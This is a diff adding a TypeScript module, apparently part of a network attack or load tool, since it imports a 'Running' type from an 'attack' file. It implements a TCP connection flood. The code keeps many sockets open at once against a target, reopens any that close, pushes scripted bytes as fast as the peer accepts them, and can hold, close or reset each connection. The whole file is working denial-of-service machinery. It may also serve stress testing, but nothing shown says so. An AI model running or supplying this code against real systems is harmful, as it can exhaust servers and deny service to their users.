@@ -1,0 +1,120 @@
+import { connect } from "node:net";
+import type { NetConnectOpts, Socket } from "node:net";
+import type { Running } from "./attack.ts";
+
+/** Wait, or until the attack ends. */
+export function pause(ms: number, signal: AbortSignal): Promise<void> {
+  return new Promise((resolve) => {
+    if (signal.aborted) return resolve();
+    const done = () => {
+      clearTimeout(timer);
+      signal.removeEventListener("abort", done);
+      resolve();
+    };
+    const timer = setTimeout(done, ms);
+    signal.addEventListener("abort", done);
+  });
+}
+
+/** Resolves when the attack's time is over. */
+export function whenOver(signal: AbortSignal): Promise<void> {
+  return new Promise((resolve) => {
+    if (signal.aborted) resolve();
+    else signal.addEventListener("abort", () => resolve(), { once: true });
+  });
+}
+
+/** How a number of connections is used. */
+export interface FloodOptions {
+  /** Open at once; each that is closed is opened again. */
+  readonly connections: number;
+  readonly to: NetConnectOpts;
+  /** What is sent over the connection of this number, as fast as it is taken. */
+  readonly script: (connection: number) => Iterable<Buffer>;
+  /** Whether answers are read; yes unless said otherwise. */
+  readonly reads?: boolean;
+  /** What is done when all is sent: wait for the peer to close it, which is the default, or close it. */
+  readonly after?: "hold" | "close" | "reset";
+  /** Most connections that are made in all. */
+  readonly total?: number;
+  /** How long all is left with the peer before it is closed, in ms. */
+  readonly lingerMs?: number;
+  /** Time between two pieces, in ms; none by default. */
+  readonly everyMs?: number;
+}
+
+const AGAIN_MS = 5;
+const REFUSED_MS = 50;
+/** Pieces after which the other connections have their turn. */
+const TURN = 4;
+
+/** Open connections and send what the script says over each, until the attack ends or all are made. */
+export async function flood(running: Running, options: FloodOptions): Promise<void> {
+  const { signal, scale } = running;
+  const slots = Math.max(1, Math.round(options.connections * scale));
+  const total = options.total === undefined
+    ? Infinity
+    : Math.max(1, Math.round(options.total * scale));
+  let made = 0;
+  const slot = async (place: number) => {
+    // Not all in one turn: the peer's backlog is short.
+    await pause(Math.floor(place / 50) * 10, signal);
+    while (!signal.aborted && made < total) {
+      made += 1;
+      const wasOpen = await useConnection(running, options, place);
+      await pause(wasOpen ? AGAIN_MS : REFUSED_MS, signal);
+    }
+  };
+  await Promise.all(Array.from({ length: slots }, (_, place) => slot(place)));
+}
+
+/** One connection, to its end; answers whether it was opened. */
+async function useConnection(
+  running: Running,
+  options: FloodOptions,
+  place: number,
+): Promise<boolean> {
+  const { signal, count } = running;
+  const socket = connect(options.to);
+  const end = () => socket.destroy();
+  signal.addEventListener("abort", end);
+  const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()));
+  socket.on("error", () => socket.destroy());
+  if (options.reads ?? true) socket.on("data", () => {});
+  else socket.pause();
+  const isOpen = await new Promise<boolean>((resolve) => {
+    socket.once("connect", () => resolve(true));
+    void closed.then(() => resolve(false));
+  });
+  if (isOpen) {
+    count("connections");
+    await send(running, socket, { ...options, place, closed });
+    if (options.after !== undefined && options.after !== "hold" && !socket.destroyed) {
+      await Promise.race([pause(options.lingerMs ?? 0, signal), closed]);
+      if (options.after === "reset") socket.resetAndDestroy();
+      else socket.destroy();
+    }
+    await closed;
+  }
+  signal.removeEventListener("abort", end);
+  return isOpen;
+}
+
+async function send(
+  { signal, count }: Running,
+  socket: Socket,
+  { script, everyMs, place, closed }: FloodOptions & {
+    readonly place: number;
+    readonly closed: Promise<void>;
+  },
+): Promise<void> {
+  let pieces = 0;
+  for (const bytes of script(place)) {
+    if (signal.aborted || socket.destroyed) return;
+    count("bytes", bytes.length);
+    if (!socket.write(bytes)) {
+      await Promise.race([new Promise((resolve) => socket.once("drain", resolve)), closed]);
+    } else if (everyMs !== undefined) await Promise.race([pause(everyMs, signal), closed]);
+    else if (++pieces % TURN === 0) await new Promise((resolve) => setImmediate(resolve));
+  }
+}
